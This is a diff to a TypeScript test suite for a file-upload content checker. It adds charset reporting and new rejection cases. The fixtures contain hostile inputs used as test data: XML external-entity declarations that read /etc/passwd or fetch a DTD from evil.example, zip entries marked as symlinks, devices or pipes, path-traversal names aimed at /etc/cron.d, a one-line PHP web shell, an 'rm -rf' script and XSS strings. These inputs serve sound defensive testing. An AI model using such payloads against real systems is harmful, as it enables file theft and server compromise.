@@ -17,12 +17,19 @@ async function judge(name: string, content: Buffer) {
   const path = join(folder, 'arrived');
   await writeFile(path, content);
   const began = process.cpuUsage();
-  const answer = await checkContent(path, name).catch((error: unknown) => {
-    if (error instanceof Problem) return `${error.code}: ${error.message}`;
-    throw error;
-  });
+  let charset: string | null = null;
+  const answer = await checkContent(path, name).then(
+    (checked) => {
+      charset = checked.charset;
+      return checked.extension;
+    },
+    (error: unknown) => {
+      if (error instanceof Problem) return `${error.code}: ${error.message}`;
+      throw error;
+    },
+  );
   const { user, system } = process.cpuUsage(began);
-  return { answer, workMs: (user + system) / 1_000 };
+  return { answer, charset, workMs: (user + system) / 1_000 };
 }
 
 const join2 = (...parts: (Buffer | string)[]) =>
@@ -48,6 +55,9 @@ const mustAccept: [string, string, () => Promise<Buffer> | Buffer][] = [
   ['notes.txt', 'txt', () => Buffer.from('Größe, café, 漢字, 😀\r\n\tDone.\n')],
   ['windows.txt', 'txt', () => Buffer.from('Gr\xf6\xdfe \x96 caf\xe9', 'latin1')],
   ['utf-16.txt', 'txt', () => join2('\xff\xfe', Buffer.from('Größe', 'utf16le'))],
+  ['page.txt', 'txt', () => Buffer.from('  <!DOCTYPE html><html><script>alert(1)</script>')],
+  ['drawing.txt', 'txt', () => Buffer.from('<svg onload="alert(1)">')],
+  ['feed.txt', 'txt', () => Buffer.from('<?xml version="1.0"?><a/>')],
   ['prices.txt', 'txt', () => Buffer.from('a < b and <3 for PK and MZ')],
 ];
 
@@ -72,6 +82,23 @@ async function markedEncrypted() {
   content.writeUInt16LE(content.readUInt16LE(central + 8) | 1, central + 8);
   return content;
 }
+/** A document with an entry that says to be of another kind than a file. */
+async function special(mode: number, extension: 'docx' | 'xlsx' = 'docx') {
+  const content = await office(extension, { 'docProps/app.xml': '/etc/passwd' });
+  const central = content.lastIndexOf('docProps/app.xml') - 46;
+  content.writeUInt32LE((mode << 16) >>> 0, central + 38);
+  return content;
+}
+const utf16 = (text: string) => join2('\xff\xfe', Buffer.from(text, 'utf16le'));
+const declarations: (string | Buffer)[] = [
+  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+  '\ufeff<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
+  utf16('<?xml version="1.0"?><!DOCTYPE a><a/>'),
+  utf16('<!DOCTYPE a><a/>').subarray(2).swap16(),
+  '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>',
+  // EBCDIC: "<?xml".
+  Buffer.from('4c6fa79493', 'hex'),
+];
 const hugePng = async () => {
   const content = await png();
   content.writeUInt32BE(60_000, 16);
@@ -101,9 +128,9 @@ const mustReject: [string, () => Promise<Buffer> | Buffer, RegExp][] = [
   ['photo.png', () => jpeg(), /is a \.jpg file/],
   ['photo.jpg', () => png(), /is a \.png file/],
   ['photo.jpg', () => Buffer.from('<script>alert(1)</script>'), /content of this file/],
-  ['page.txt', () => Buffer.from('  <!DOCTYPE html><html>'), /not plain text/],
   ['script.txt', () => Buffer.from(`${'#'}!/bin/sh\nrm -rf .`), /not plain text/],
-  ['drawing.txt', () => Buffer.from('<svg onload="alert(1)">'), /not plain text|is a \.svg/],
+  ['archive.txt', () => Buffer.from('MIME-Version: 1.0\r\n'), /not plain text/],
+  ['page.txt', () => Buffer.from('<?php system($_GET[0]);'), /not plain text/],
   ['plan.txt', () => pdf(), /is a \.pdf file/],
   ['noise.txt', () => join2('Hello\0world', randomBytes(100)), /not readable text|is a/],
   ['letter.docx', () => office('xlsx'), /not a Word document/],
@@ -150,12 +177,36 @@ const mustReject: [string, () => Promise<Buffer> | Buffer, RegExp][] = [
   ['slip.docx', () => climbing('../../../etc/cron.d/x'), /damaged or was made/],
   ['slip.docx', () => climbing('/etc/cron.d/abcdef'), /damaged or was made/],
   ['slip.docx', () => climbing('..\\..\\windows\\x'), /damaged or was made/],
+  // Links, devices and pipes.
+  ['link.docx', () => special(0o120777), /damaged or was made/],
+  ['device.docx', () => special(0o060600), /damaged or was made/],
+  ['pipe.xlsx', () => special(0o010600, 'xlsx'), /damaged or was made/],
+  // XML that makes its reader fetch or unfold something.
+  ...declarations.map((xml): [string, () => Promise<Buffer>, RegExp] => [
+    'entities.docx',
+    () => office('docx', { 'word/styles.xml': xml }),
+    /declares entities|damaged or was made/,
+  ]),
+  [
+    'entities.xlsx',
+    () => office('xlsx', { 'xl/part.bin': `${' '.repeat(70_000)}<!ENTITY x "y">` }),
+    /declares entities/,
+  ],
   ['twice.docx', () => office('docx', { 'Word/Document.xml': 'x' }), /damaged or was made/],
 ];
 
 describe('the content of a file', () => {
   test.each(mustAccept)('%s is taken as %s', async (name, extension, make) => {
     expect((await judge(name, await make())).answer).toBe(extension);
+  });
+
+  test.each([
+    ['utf-8', Buffer.from('Größe')],
+    ['utf-8', Buffer.from('plain')],
+    ['utf-16', join2('\xff\xfe', Buffer.from('Größe', 'utf16le'))],
+    ['windows-1252', Buffer.from('Gr\xf6\xdfe', 'latin1')],
+  ])('is known as text in %s', async (charset, content) => {
+    expect(await judge('a.txt', content)).toMatchObject({ answer: 'txt', charset });
   });
 
   test.each(mustReject)('%s is refused %#', async (name, make, reason) => {
